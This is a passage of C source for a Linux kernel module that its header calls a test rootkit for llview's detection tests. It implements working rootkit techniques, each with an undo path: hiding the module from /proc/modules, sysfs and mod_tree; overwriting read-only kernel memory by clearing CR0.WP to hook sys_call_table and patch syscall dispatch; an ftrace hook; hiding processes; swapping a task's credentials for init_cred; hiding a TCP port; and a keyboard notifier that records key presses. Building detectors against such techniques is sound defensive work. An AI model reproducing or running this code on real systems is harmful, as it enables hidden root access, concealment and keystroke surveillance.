// SPDX-License-Identifier: GPL-2.0
/*
 * lvrootkit - a planted rootkit for llview's detection tests.
 *
 * It does what today's public kernel rootkits do on a 6.x x86-64 kernel, one
 * technique at a time, and undoes each exactly, so a test can plant, check,
 * undo and check again in a live guest. Techniques (module parameters, or
 * lines written to /proc/lvrootkit; reading that file lists what is planted):
 *
 *   hide=1        list_del of THIS_MODULE->list (gone from /proc/modules)
 *   hide=2        also kobject_del of its sysfs directory, and its core node
 *                 erased from mod_tree (the latch tree behind __module_address)
 *   syscalls=1    sys_call_table[__NR_kill] and [__NR_getdents64] overwritten
 *                 (CR0.WP cleared by hand: write_cr0() pins WP)
 *   syscalls=2    also the rel32 of x64_sys_call's jumps to __x64_sys_kill and
 *                 __x64_sys_getdents64 (this kernel dispatches through that
 *                 switch, so only this makes the table hooks take effect)
 *   ftrace=1      __x64_sys_kill redirected through an IPMODIFY ftrace_ops
 *   hide_pid=N    N's pid_links[PIDTYPE_PID] unhashed (pid lookup fails; the
 *                 task stays on the task list)
 *   unlink_pid=N  N's task->tasks unlinked from the task list (it stays in the
 *                 pid table)
 *   tcp_seq=PORT  tcp4_seq_ops.show replaced: /proc/net/tcp omits sockets whose
 *                 local port is PORT (1 means 31337)
 *   keylogger=1   a keyboard notifier that counts key presses
 *   cred_pid=N    N's cred and real_cred pointed at init_cred
 *   flag_pid=N    N's task->flags gains a bit 6.1 leaves unused (0x01000000), the
 *                 marker Diamorphine-style rootkits set to hide a process from
 *                 their getdents filter
 *
 * Observable effects: with syscalls=2, kill(pid, 61) returns -EMEDIUMTYPE and
 * getdents64 drops entries named "lvrk_*"; with ftrace=1, kill(pid, 62)
 * returns -ENOTUNIQ. Other calls go to the kernel's handlers unchanged.
 *
 * Kernel symbols that are not exported come from kallsyms_lookup_name, whose
 * address a kprobe reveals.
 */

#include <linux/atomic.h>
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/dirent.h>
#include <linux/ftrace.h>
#include <linux/kallsyms.h>
#include <linux/kernel.h>
#include <linux/keyboard.h>
#include <linux/kobject.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/notifier.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/seq_file.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/sysfs.h>
#include <linux/uaccess.h>
#include <linux/workqueue.h>
#include <net/sock.h>
#include <asm/processor-flags.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("llview test rootkit: plants and undoes rootkit techniques");

/* perm 0: no /sys/module/lvrootkit/parameters (one sysfs group less to hide) */
static int hide;
module_param(hide, int, 0);
static int syscalls;
module_param(syscalls, int, 0);
static int ftrace;
module_param(ftrace, int, 0);
static int hide_pid;
module_param(hide_pid, int, 0);
static int unlink_pid;
module_param(unlink_pid, int, 0);
static int tcp_seq;
module_param(tcp_seq, int, 0);
static int keylogger;
module_param(keylogger, int, 0);
static int cred_pid;
module_param(cred_pid, int, 0);
static int flag_pid;
module_param(flag_pid, int, 0);

#define RK_SIG_TABLE 61   /* kill(pid, 61) answered by the syscall-table hook */
#define RK_SIG_FTRACE 62  /* kill(pid, 62) answered by the ftrace hook */
#define RK_HIDE_PREFIX "lvrk_"
#define RK_DEFAULT_PORT 31337

typedef long (*sysfn_t)(const struct pt_regs *);
typedef unsigned long (*lookup_fn)(const char *name);

static lookup_fn rk_lookup;
static DEFINE_MUTEX(rk_lock);  /* serializes plant/undo */
/* Calls inside our hooks: undo waits for zero before our code may go away. */
static atomic_t rk_inflight = ATOMIC_INIT(0);

static void *rk_sym(const char *name)
{
	return (void *)rk_lookup(name);
}

/* ---- writing read-only kernel memory, as rootkits do ---------------------- */

static inline unsigned long rk_read_cr0(void)
{
	unsigned long val;

	asm volatile("mov %%cr0, %0" : "=r"(val));
	return val;
}

/* Not write_cr0(): the kernel pins CR0.WP there and would set it again. */
static inline void rk_write_cr0(unsigned long val)
{
	asm volatile("mov %0, %%cr0" : : "r"(val) : "memory");
}

static int rk_ro_write(void *dst, const void *src, size_t len)
{
	unsigned long flags, cr0;

	/* With CET on, clearing WP faults; this kernel does not turn it on. */
	if (__read_cr4() & X86_CR4_CET)
		return -EOPNOTSUPP;
	local_irq_save(flags);
	cr0 = rk_read_cr0();
	rk_write_cr0(cr0 & ~X86_CR0_WP);
	memcpy(dst, src, len);
	rk_write_cr0(cr0);
	local_irq_restore(flags);
	return 0;
}

/* After unhooking: no CPU is between loading our pointer and counting in. */
static void rk_drain(void)
{
	synchronize_rcu();
	while (atomic_read(&rk_inflight))
		msleep(5);
}

/* ---- hide: modules list, sysfs, mod_tree ---------------------------------- */

/* Private in kernel/module/sysfs.c and kernel/params.c (6.1 layout). */
struct rk_notes_attrs {
	struct kobject *dir;
	unsigned int notes;
	struct bin_attribute attrs[];
};

struct rk_sect_attrs {
	struct attribute_group grp;
};

struct rk_param_attrs {
	unsigned int num;
	struct attribute_group grp;
};

static int rk_hidden;         /* 0, 1 or 2 */
static bool rk_tree_erased;   /* the mod_tree part of hide=2 was done */
static struct list_head *rk_modules;
static struct mutex *rk_module_mutex;
static struct latch_tree_root *rk_mod_tree;

/* The kernel's mod_tree ordering (kernel/module/tree_lookup.c): by layout base. */
static __always_inline struct module_layout *rk_layout(struct latch_tree_node *n)
{
	return container_of(n, struct module_layout, mtn.node);
}

static bool rk_mtn_less(struct latch_tree_node *a, struct latch_tree_node *b)
{
	return (unsigned long)rk_layout(a)->base < (unsigned long)rk_layout(b)->base;
}

static int rk_mtn_comp(void *key, struct latch_tree_node *n)
{
	unsigned long val = (unsigned long)key;
	unsigned long start = (unsigned long)rk_layout(n)->base;

	if (val < start)
		return -1;
	if (val >= start + rk_layout(n)->size)
		return 1;
	return 0;
}

static const struct latch_tree_ops rk_mtn_ops = {
	.less = rk_mtn_less,
	.comp = rk_mtn_comp,
};

static void rk_sysfs_hide(struct module *mod)
{
	struct rk_notes_attrs *notes = (struct rk_notes_attrs *)mod->notes_attrs;

	/* Children first: deleting only the parent would leave them pointing at
	 * freed kernfs nodes, which the real teardown at rmmod would touch. */
	if (notes && notes->dir)
		kobject_del(notes->dir);
	if (mod->holders_dir)
		kobject_del(mod->holders_dir);
	if (mod->mkobj.drivers_dir)
		kobject_del(mod->mkobj.drivers_dir);
	kobject_del(&mod->mkobj.kobj);
}

/* Rebuilds what mod_sysfs_setup made, so that rmmod's teardown finds it all. */
static int rk_sysfs_restore(struct module *mod)
{
	struct rk_notes_attrs *notes = (struct rk_notes_attrs *)mod->notes_attrs;
	struct module_attribute *attr;
	unsigned int i;
	int rc;

	rc = kobject_add(&mod->mkobj.kobj, NULL, "%s", mod->name);
	if (rc)
		return rc;
	if (mod->holders_dir)
		rc = kobject_add(mod->holders_dir, &mod->mkobj.kobj, "holders");
	if (!rc && mod->mkobj.drivers_dir)
		rc = kobject_add(mod->mkobj.drivers_dir, &mod->mkobj.kobj, "drivers");
	if (!rc && mod->mkobj.mp)
		rc = sysfs_create_group(&mod->mkobj.kobj,
					&((struct rk_param_attrs *)mod->mkobj.mp)->grp);
	for (attr = mod->modinfo_attrs; !rc && attr && attr->attr.name; attr++)
		rc = sysfs_create_file(&mod->mkobj.kobj, &attr->attr);
	if (!rc && mod->sect_attrs)
		rc = sysfs_create_group(&mod->mkobj.kobj,
					&((struct rk_sect_attrs *)mod->sect_attrs)->grp);
	if (!rc && notes && notes->dir) {
		rc = kobject_add(notes->dir, &mod->mkobj.kobj, "notes");
		for (i = 0; !rc && i < notes->notes; i++)
			rc = sysfs_create_bin_file(notes->dir, &notes->attrs[i]);
	}
	return rc;
}

static int rk_plant_hide(int level)
{
	struct module *mod = THIS_MODULE;

	if (level < 1 || level > 2)
		return -EINVAL;
	if (rk_hidden)
		return -EBUSY;
	rk_modules = rk_sym("modules");
	rk_module_mutex = rk_sym("module_mutex");
	if (!rk_modules || !rk_module_mutex)
		return -ENOENT;
	mutex_lock(rk_module_mutex);
	/* _rcu: kallsyms and /proc/modules readers may be on our entry. */
	list_del_rcu(&mod->list);
	mutex_unlock(rk_module_mutex);
	rk_hidden = 1;
	if (level == 2) {
		rk_sysfs_hide(mod);
		rk_mod_tree = rk_sym("mod_tree");
		/* struct mod_tree_root starts with its latch_tree_root */
		if (rk_mod_tree) {
			mutex_lock(rk_module_mutex);
			latch_tree_erase(&mod->core_layout.mtn.node, rk_mod_tree, &rk_mtn_ops);
			mutex_unlock(rk_module_mutex);
			rk_tree_erased = true;
		}
		rk_hidden = 2;
	}
	return 0;
}

static int rk_undo_hide(void)
{
	struct module *mod = THIS_MODULE;
	int rc = 0;

	if (!rk_hidden)
		return 0;
	if (rk_hidden == 2) {
		if (rk_tree_erased) {
			/* readers of the erased node are gone before it is relinked */
			synchronize_rcu();
			mutex_lock(rk_module_mutex);
			latch_tree_insert(&mod->core_layout.mtn.node, rk_mod_tree, &rk_mtn_ops);
			mutex_unlock(rk_module_mutex);
			rk_tree_erased = false;
		}
		rc = rk_sysfs_restore(mod);
		if (rc)
			pr_err("lvrootkit: restoring sysfs failed: %d\n", rc);
	}
	mutex_lock(rk_module_mutex);
	/* new modules go to the head too (add_unformed_module) */
	list_add_rcu(&mod->list, rk_modules);
	mutex_unlock(rk_module_mutex);
	rk_hidden = 0;
	return rc;
}

/* ---- syscalls: sys_call_table and x64_sys_call ---------------------------- */

#define RK_MAX_SITES 4

struct rk_site {
	u8 *rel;     /* the rel32 field of a jmp/call/jcc in x64_sys_call */
	s32 orig;
};

static int rk_syscalls;       /* 0, 1 or 2 */
static sys_call_ptr_t *rk_table;
static sysfn_t rk_orig_kill, rk_orig_getdents64;
static struct rk_site rk_sites[2 * RK_MAX_SITES];
static int rk_nsites;

static long rk_sys_kill(const struct pt_regs *regs)
{
	long ret;

	atomic_inc(&rk_inflight);
	if ((int)regs->si == RK_SIG_TABLE)
		ret = -EMEDIUMTYPE;
	else
		ret = rk_orig_kill(regs);
	atomic_dec(&rk_inflight);
	return ret;
}

/* Drops the "lvrk_*" entries from a getdents64 result; returns its new length. */
static long rk_filter_dirents(void __user *ubuf, long len)
{
	long in = 0, out = 0;
	char *buf = kvmalloc(len, GFP_KERNEL);

	if (!buf)
		return len;
	if (copy_from_user(buf, ubuf, len)) {
		kvfree(buf);
		return len;
	}
	while (in < len) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(buf + in);
		unsigned short reclen = d->d_reclen;

		if (reclen == 0 || in + reclen > len)
			break;
		if (strncmp(d->d_name, RK_HIDE_PREFIX, sizeof(RK_HIDE_PREFIX) - 1)) {
			if (out != in)
				memmove(buf + out, buf + in, reclen);
			out += reclen;
		}
		in += reclen;
	}
	if (in < len) {  /* malformed tail: keep it as it was */
		memmove(buf + out, buf + in, len - in);
		out += len - in;
	}
	if (out != len && copy_to_user(ubuf, buf, out))
		out = -EFAULT;
	kvfree(buf);
	return out;
}

static long rk_sys_getdents64(const struct pt_regs *regs)
{
	long ret, got;

	atomic_inc(&rk_inflight);
	do {
		/* a batch of only hidden names must not end the listing early */
		got = rk_orig_getdents64(regs);
		ret = got > 0 ? rk_filter_dirents((void __user *)regs->si, got) : got;
	} while (got > 0 && ret == 0);
	atomic_dec(&rk_inflight);
	return ret;
}

/* Finds x64_sys_call's direct jumps/calls to target and points them at hook. */
static int rk_patch_dispatch(unsigned long target, unsigned long hook)
{
	char name[KSYM_SYMBOL_LEN];
	unsigned long start = (unsigned long)rk_sym("x64_sys_call"), size = 0;
	char *slash;
	u8 *p, *end;
	int found = 0, rc;

	if (!start)
		return -ENOENT;
	sprint_symbol(name, start);  /* "x64_sys_call+0x0/0x1f20" */
	slash = strchr(name, '/');
	if (!slash || kstrtoul(slash + 1, 16, &size) || !size || size > 0x10000)
		return -ENOENT;
	end = (u8 *)start + size;
	for (p = (u8 *)start; p + 6 <= end && rk_nsites < ARRAY_SIZE(rk_sites); p++) {
		u8 *rel;
		unsigned long next;
		s32 disp, patched;
		long delta;

		if (p[0] == 0xe8 || p[0] == 0xe9) {          /* call/jmp rel32 */
			rel = p + 1;
			next = (unsigned long)p + 5;
		} else if (p[0] == 0x0f && (p[1] & 0xf0) == 0x80) {  /* jcc rel32 */
			rel = p + 2;
			next = (unsigned long)p + 6;
		} else {
			continue;
		}
		memcpy(&disp, rel, 4);
		if (next + (long)disp != target)
			continue;
		delta = (long)hook - (long)next;
		if (delta != (s32)delta)
			return -ERANGE;
		patched = (s32)delta;
		rc = rk_ro_write(rel, &patched, 4);
		if (rc)
			return rc;
		rk_sites[rk_nsites].rel = rel;
		rk_sites[rk_nsites].orig = disp;
		rk_nsites++;
		found++;
	}
	return found ? 0 : -ENOENT;
}

static void rk_unpatch_dispatch(void)
{
	while (rk_nsites > 0) {
		struct rk_site *site = &rk_sites[--rk_nsites];

		rk_ro_write(site->rel, &site->orig, 4);
	}
}

static int rk_undo_syscalls(void);

static int rk_plant_syscalls(int level)
{
	sys_call_ptr_t hook_kill = rk_sys_kill, hook_getdents64 = rk_sys_getdents64;
	int rc;

	if (level < 1 || level > 2)
		return -EINVAL;
	if (rk_syscalls)
		return -EBUSY;
	rk_table = rk_sym("sys_call_table");
	if (!rk_table)
		return -ENOENT;
	rk_orig_kill = rk_table[__NR_kill];
	rk_orig_getdents64 = rk_table[__NR_getdents64];
	rc = rk_ro_write(&rk_table[__NR_kill], &hook_kill, sizeof(hook_kill));
	if (rc)
		return rc;
	rk_ro_write(&rk_table[__NR_getdents64], &hook_getdents64, sizeof(hook_getdents64));
	rk_syscalls = 1;
	if (level == 2) {
		rk_syscalls = 2;
		rc = rk_patch_dispatch((unsigned long)rk_orig_kill, (unsigned long)rk_sys_kill);
		if (!rc)
			rc = rk_patch_dispatch((unsigned long)rk_orig_getdents64,
					       (unsigned long)rk_sys_getdents64);
		if (rc) {
			rk_undo_syscalls();
			return rc;
		}
	}
	return 0;
}

static int rk_undo_syscalls(void)
{
	if (!rk_syscalls)
		return 0;
	rk_unpatch_dispatch();
	rk_ro_write(&rk_table[__NR_kill], &rk_orig_kill, sizeof(rk_orig_kill));
	rk_ro_write(&rk_table[__NR_getdents64], &rk_orig_getdents64, sizeof(rk_orig_getdents64));
	rk_syscalls = 0;
	rk_drain();
	return 0;
}

/* ---- ftrace hook on __x64_sys_kill ---------------------------------------- */

static bool rk_ftrace;
static bool rk_ft_filtered;  /* the ops own a filter hash (freed at unload only) */
static unsigned long rk_ft_target;
static char rk_ft_name[] = "__x64_sys_kill";

static long rk_ft_kill(const struct pt_regs *regs)
{
	/* past the fentry call: the original runs without coming back here */
	sysfn_t orig = (sysfn_t)(rk_ft_target + MCOUNT_INSN_SIZE);
	long ret;

	atomic_inc(&rk_inflight);
	if ((int)regs->si == RK_SIG_FTRACE)
		ret = -ENOTUNIQ;
	else
		ret = orig(regs);
	atomic_dec(&rk_inflight);
	return ret;
}

static void notrace rk_ft_callback(unsigned long ip, unsigned long parent_ip,
				   struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* only when fentry is the function's first instruction is +5 the body */
	if (regs && ip == rk_ft_target)
		regs->ip = (unsigned long)rk_ft_kill;
}

static struct ftrace_ops rk_ft_ops = {
	.func = rk_ft_callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int rk_plant_ftrace(void)
{
	int rc;

	if (rk_ftrace)
		return -EBUSY;
	rk_ft_target = (unsigned long)rk_sym(rk_ft_name);
	if (!rk_ft_target)
		return -ENOENT;
	rc = ftrace_set_filter(&rk_ft_ops, rk_ft_name, strlen(rk_ft_name), 1);
	if (rc)
		return rc;
	rk_ft_filtered = true;
	rc = register_ftrace_function(&rk_ft_ops);
	if (rc)
		return rc;
	rk_ftrace = true;
	return 0;
}

static int rk_undo_ftrace(void)
{
	if (!rk_ftrace)
		return 0;
	/*
	 * Not ftrace_free_filter() here: it frees the hashes but leaves the ops
	 * pointing at them, so planting again would use freed memory. The next
	 * plant's ftrace_set_filter(reset) replaces them; unload frees them.
	 */
	unregister_ftrace_function(&rk_ft_ops);
	rk_ftrace = false;
	rk_drain();
	return 0;
}

/* ---- processes: pid table, task list, creds ------------------------------- */

static rwlock_t *rk_tasklist_lock;

static struct task_struct *rk_get_task(pid_t nr)
{
	struct pid *pid = find_get_pid(nr);
	struct task_struct *task = pid ? get_pid_task(pid, PIDTYPE_PID) : NULL;

	put_pid(pid);
	return task;
}

static int rk_need_tasklist_lock(void)
{
	if (!rk_tasklist_lock)
		rk_tasklist_lock = rk_sym("tasklist_lock");
	return rk_tasklist_lock ? 0 : -ENOENT;
}

static struct task_struct *rk_hp_task;
static pid_t rk_hp_nr;

static int rk_plant_hide_pid(pid_t nr)
{
	struct task_struct *task;
	struct hlist_node *node;
	int rc = rk_need_tasklist_lock();

	if (rc)
		return rc;
	if (rk_hp_task)
		return -EBUSY;
	task = rk_get_task(nr);
	if (!task)
		return -ESRCH;
	node = &task->pid_links[PIDTYPE_PID];
	write_lock_irq(rk_tasklist_lock);
	if (!pid_alive(task) || (task->flags & PF_EXITING) || node->next) {
		/* a PID list holds exactly one task; anything else is not ours to touch */
		write_unlock_irq(rk_tasklist_lock);
		put_task_struct(task);
		return -ESRCH;
	}
	hlist_del_rcu(node);
	/*
	 * A node that points at itself (next is NULL): RCU readers see the list
	 * end, and the kernel's own hlist_del at exit (detach_pid) is harmless,
	 * so the hidden process may exit while hidden.
	 */
	node->pprev = &node->next;
	write_unlock_irq(rk_tasklist_lock);
	rk_hp_task = task;
	rk_hp_nr = nr;
	return 0;
}

static int rk_undo_hide_pid(void)
{
	struct task_struct *task = rk_hp_task;
	struct hlist_node *node;

	if (!task)
		return 0;
	node = &task->pid_links[PIDTYPE_PID];
	write_lock_irq(rk_tasklist_lock);
	/* after release_task, thread_pid is NULL and the node is poisoned */
	if (pid_alive(task) && node->pprev == &node->next)
		hlist_add_head_rcu(node, &task_pid(task)->tasks[PIDTYPE_PID]);
	write_unlock_irq(rk_tasklist_lock);
	put_task_struct(task);
	rk_hp_task = NULL;
	rk_hp_nr = 0;
	return 0;
}

static struct task_struct *rk_ul_task;
static pid_t rk_ul_nr;

static int rk_plant_unlink_pid(pid_t nr)
{
	struct task_struct *task;
	int rc = rk_need_tasklist_lock();

	if (rc)
		return rc;
	if (rk_ul_task)
		return -EBUSY;
	task = rk_get_task(nr);
	if (!task)
		return -ESRCH;
	write_lock_irq(rk_tasklist_lock);
	if (!pid_alive(task) || (task->flags & PF_EXITING) || !thread_group_leader(task) ||
	    task == &init_task) {
		write_unlock_irq(rk_tasklist_lock);
		put_task_struct(task);
		return -EINVAL;
	}
	list_del_rcu(&task->tasks);
	write_unlock_irq(rk_tasklist_lock);
	/*
	 * Once no for_each_process walker stands on it, the entry becomes an
	 * empty list of its own: the kernel's list_del at exit then passes
	 * CONFIG_DEBUG_LIST's checks. (An exit inside this grace period would
	 * trip them; the tests keep the process alive.)
	 */
	synchronize_rcu();
	write_lock_irq(rk_tasklist_lock);
	INIT_LIST_HEAD(&task->tasks);
	write_unlock_irq(rk_tasklist_lock);
	rk_ul_task = task;
	rk_ul_nr = nr;
	return 0;
}

static int rk_undo_unlink_pid(void)
{
	struct task_struct *task = rk_ul_task;

	if (!task)
		return 0;
	write_lock_irq(rk_tasklist_lock);
	/* where copy_process puts new tasks: the tail, just before init_task */
	if (pid_alive(task) && list_empty(&task->tasks))
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	write_unlock_irq(rk_tasklist_lock);
	put_task_struct(task);
	rk_ul_task = NULL;
	rk_ul_nr = 0;
	return 0;
}

static struct task_struct *rk_cr_task;
static pid_t rk_cr_nr;
static const struct cred *rk_cr_init;
/* The task's own references, kept while it runs on init_cred's. */
static const struct cred *rk_cr_cred, *rk_cr_real;

static int rk_plant_cred_pid(pid_t nr)
{
	struct task_struct *task;

	if (rk_cr_task)
		return -EBUSY;
	rk_cr_init = rk_sym("init_cred");
	if (!rk_cr_init)
		return -ENOENT;
	task = rk_get_task(nr);
	if (!task)
		return -ESRCH;
	task_lock(task);
	/* commit_creds BUGs unless cred == real_cred: leave override_creds alone */
	if (task->cred != task->real_cred || (task->flags & PF_EXITING)) {
		task_unlock(task);
		put_task_struct(task);
		return -EBUSY;
	}
	rk_cr_real = task->real_cred;
	rk_cr_cred = task->cred;
	rcu_assign_pointer(task->real_cred, get_cred(rk_cr_init));
	rcu_assign_pointer(task->cred, get_cred(rk_cr_init));
	task_unlock(task);
	rk_cr_task = task;
	rk_cr_nr = nr;
	return 0;
}

static int rk_undo_cred_pid(void)
{
	struct task_struct *task = rk_cr_task;

	if (!task)
		return 0;
	task_lock(task);
	if (task->cred == rk_cr_init && task->real_cred == rk_cr_init) {
		rcu_assign_pointer(task->real_cred, rk_cr_real);
		rcu_assign_pointer(task->cred, rk_cr_cred);
		task_unlock(task);
		put_cred(rk_cr_init);  /* put_cred frees after a grace period */
		put_cred(rk_cr_init);
	} else {
		/* the task changed its creds since (commit_creds put ours) */
		task_unlock(task);
		put_cred(rk_cr_real);
		put_cred(rk_cr_cred);
	}
	put_task_struct(task);
	rk_cr_task = NULL;
	rk_cr_nr = 0;
	return 0;
}

/* ---- flag_pid: a task flag bit the kernel does not define ------------------ */

#define RK_HIDDEN_FLAG 0x01000000 /* PF__HOLE__01000000 on 6.1 */

static struct task_struct *rk_fl_task;
static pid_t rk_fl_nr;

static int rk_plant_flag_pid(pid_t nr)
{
	struct task_struct *task;

	if (rk_fl_task)
		return -EBUSY;
	task = rk_get_task(nr);
	if (!task)
		return -ESRCH;
	/* Set from outside the task, as rootkits do; nothing in the kernel reads the bit. */
	task->flags |= RK_HIDDEN_FLAG;
	rk_fl_task = task;
	rk_fl_nr = nr;
	return 0;
}

static int rk_undo_flag_pid(void)
{
	if (!rk_fl_task)
		return 0;
	rk_fl_task->flags &= ~RK_HIDDEN_FLAG;
	put_task_struct(rk_fl_task);
	rk_fl_task = NULL;
	rk_fl_nr = 0;
	return 0;
}

/* ---- /proc/net/tcp: tcp4_seq_ops.show ------------------------------------- */

/*
 * The show member of the kernel's tcp4_seq_ops (static const, so in
 * .rodata), rather than the proc_dir_entry's seq_ops pointer: what
 * Volatility's check_afinfo looks at.
 */
static struct seq_operations *rk_tcp_ops;
static int (*rk_tcp_orig_show)(struct seq_file *seq, void *v);
static int rk_tcp_port;

static int rk_tcp4_show(struct seq_file *seq, void *v)
{
	int ret = 0;

	atomic_inc(&rk_inflight);
	/* sock, timewait and request socks all start with sock_common */
	if (v == SEQ_START_TOKEN || ((struct sock_common *)v)->skc_num != rk_tcp_port)
		ret = rk_tcp_orig_show(seq, v);
	atomic_dec(&rk_inflight);
	return ret;
}

static int rk_plant_tcp_seq(int port)
{
	int (*hook)(struct seq_file *seq, void *v) = rk_tcp4_show;
	int rc;

	if (port == 1)
		port = RK_DEFAULT_PORT;
	if (port < 1 || port > 65535)
		return -EINVAL;
	if (rk_tcp_ops)
		return -EBUSY;
	rk_tcp_ops = rk_sym("tcp4_seq_ops");
	if (!rk_tcp_ops)
		return -ENOENT;
	rk_tcp_port = port;
	rk_tcp_orig_show = rk_tcp_ops->show;
	rc = rk_ro_write(&rk_tcp_ops->show, &hook, sizeof(hook));
	if (rc)
		rk_tcp_ops = NULL;
	return rc;
}

static int rk_undo_tcp_seq(void)
{
	if (!rk_tcp_ops)
		return 0;
	rk_ro_write(&rk_tcp_ops->show, &rk_tcp_orig_show, sizeof(rk_tcp_orig_show));
	rk_tcp_ops = NULL;
	rk_drain();
	return 0;
}

/* ---- keyboard notifier ---------------------------------------------------- */

static bool rk_keylogger;
static atomic_t rk_keys = ATOMIC_INIT(0);
static unsigned int rk_last_key;

static int rk_kbd_event(struct notifier_block *nb, unsigned long action, void *data)
{
	struct keyboard_notifier_param *param = data;

	if (action == KBD_KEYCODE && param->down) {
		WRITE_ONCE(rk_last_key, param->value);
		atomic_inc(&rk_keys);
	}
	return NOTIFY_OK;
}

static struct notifier_block rk_kbd_nb = { .notifier_call = rk_kbd_event };

static int rk_plant_keylogger(void)
{
	int rc;

	if (rk_keylogger)
		return -EBUSY;
	rc = register_keyboard_notifier(&rk_kbd_nb);
	if (!rc)
		rk_keylogger = true;
	return rc;
}

static int rk_undo_keylogger(void)
{
	if (!rk_keylogger)
		return 0;
	unregister_keyboard_notifier(&rk_kbd_nb);  /* waits for running callbacks */
	rk_keylogger = false;
	return 0;
}

/* ---- commands ------------------------------------------------------------- */

static int rk_plant(const char *what, int arg, bool has_arg)
{
	if (!strcmp(what, "hide"))
		return rk_plant_hide(has_arg ? arg : 1);
	if (!strcmp(what, "syscalls"))
		return rk_plant_syscalls(has_arg ? arg : 1);
	if (!strcmp(what, "ftrace"))
		return rk_plant_ftrace();
	if (!strcmp(what, "tcp_seq"))
		return rk_plant_tcp_seq(has_arg ? arg : 1);
	if (!strcmp(what, "keylogger"))
		return rk_plant_keylogger();
	if (!has_arg || arg <= 0)
		return -EINVAL;
	if (!strcmp(what, "hide_pid"))
		return rk_plant_hide_pid(arg);
	if (!strcmp(what, "unlink_pid"))
		return rk_plant_unlink_pid(arg);
	if (!strcmp(what, "cred_pid"))
		return rk_plant_cred_pid(arg);
	if (!strcmp(what, "flag_pid"))
		return rk_plant_flag_pid(arg);
	return -EINVAL;
}

static int rk_undo(const char *what)
{
	bool all = !strcmp(what, "all");
	int rc = 0;

	if (all || !strcmp(what, "flag_pid"))
		rc = rk_undo_flag_pid() ?: rc;
	if (all || !strcmp(what, "cred_pid"))
		rc = rk_undo_cred_pid() ?: rc;
	if (all || !strcmp(what, "keylogger"))
		rc = rk_undo_keylogger() ?: rc;
	if (all || !strcmp(what, "tcp_seq"))
		rc = rk_undo_tcp_seq() ?: rc;
	if (all || !strcmp(what, "unlink_pid"))
		rc = rk_undo_unlink_pid() ?: rc;
	if (all || !strcmp(what, "hide_pid"))
		rc = rk_undo_hide_pid() ?: rc;
	if (all || !strcmp(what, "ftrace"))
		rc = rk_undo_ftrace() ?: rc;
	if (all || !strcmp(what, "syscalls"))
		rc = rk_undo_syscalls() ?: rc;
	if (all || !strcmp(what, "hide"))
		rc = rk_undo_hide() ?: rc;
	if (!all && strcmp(what, "flag_pid") && strcmp(what, "cred_pid") &&
	    strcmp(what, "keylogger") && strcmp(what, "tcp_seq") && strcmp(what, "unlink_pid") &&
	    strcmp(what, "hide_pid") && strcmp(what, "ftrace") &&
	    strcmp(what, "syscalls") && strcmp(what, "hide"))
		return -EINVAL;
	return rc;
}

/* "plant WHAT [N]", "undo WHAT|all", "unhide" */
static int rk_command(char *line)
{
	char verb[16], what[16];
	int arg = 0, n, rc;

	n = sscanf(line, "%15s %15s %d", verb, what, &arg);
	if (n < 1)
		return -EINVAL;
	mutex_lock(&rk_lock);
	if (!strcmp(verb, "unhide") && n == 1)
		rc = rk_undo_hide();
	else if (!strcmp(verb, "plant") && n >= 2)
		rc = rk_plant(what, arg, n == 3);
	else if (!strcmp(verb, "undo") && n == 2)
		rc = rk_undo(what);
	else
		rc = -EINVAL;
	mutex_unlock(&rk_lock);
	return rc;
}

static ssize_t rk_proc_write(struct file *file, const char __user *ubuf, size_t len,
			     loff_t *pos)
{
	char buf[64];
	int rc;

	if (len >= sizeof(buf))
		return -EINVAL;
	if (copy_from_user(buf, ubuf, len))
		return -EFAULT;
	buf[len] = '\0';
	rc = rk_command(buf);
	return rc ? rc : (ssize_t)len;
}

/* One line per technique: its name, its value (0: not planted), details. */
static int rk_proc_show(struct seq_file *m, void *v)
{
	mutex_lock(&rk_lock);
	seq_printf(m, "hide %d", rk_hidden);
	if (rk_hidden)
		seq_printf(m, " module=%px mod_tree=%s", THIS_MODULE,
			   rk_hidden < 2 ? "kept" : rk_tree_erased ? "erased" : "skipped");
	seq_puts(m, "\n");
	seq_printf(m, "syscalls %d", rk_syscalls);
	if (rk_syscalls)
		seq_printf(m, " sys_call_table=%px kill=%px orig_kill=%px getdents64=%px "
			   "orig_getdents64=%px dispatch_sites=%d", rk_table, rk_sys_kill,
			   rk_orig_kill, rk_sys_getdents64, rk_orig_getdents64, rk_nsites);
	seq_puts(m, "\n");
	seq_printf(m, "ftrace %d", rk_ftrace);
	if (rk_ftrace)
		seq_printf(m, " target=%s target_addr=%lx ops=%px func=%px hook=%px",
			   rk_ft_name, rk_ft_target, &rk_ft_ops, rk_ft_callback, rk_ft_kill);
	seq_puts(m, "\n");
	seq_printf(m, "hide_pid %d", rk_hp_nr);
	if (rk_hp_task)
		seq_printf(m, " task=%px", rk_hp_task);
	seq_puts(m, "\n");
	seq_printf(m, "unlink_pid %d", rk_ul_nr);
	if (rk_ul_task)
		seq_printf(m, " task=%px", rk_ul_task);
	seq_puts(m, "\n");
	seq_printf(m, "tcp_seq %d", rk_tcp_ops ? rk_tcp_port : 0);
	if (rk_tcp_ops)
		seq_printf(m, " tcp4_seq_ops=%px show=%px orig_show=%px", rk_tcp_ops,
			   rk_tcp4_show, rk_tcp_orig_show);
	seq_puts(m, "\n");
	seq_printf(m, "keylogger %d", rk_keylogger);
	if (rk_keylogger)
		seq_printf(m, " notifier=%px call=%px keys=%d last=%u", &rk_kbd_nb,
			   rk_kbd_event, atomic_read(&rk_keys), READ_ONCE(rk_last_key));
	seq_puts(m, "\n");
	seq_printf(m, "cred_pid %d", rk_cr_nr);
	if (rk_cr_task)
		seq_printf(m, " task=%px init_cred=%px orig_cred=%px", rk_cr_task, rk_cr_init,
			   rk_cr_cred);
	seq_puts(m, "\n");
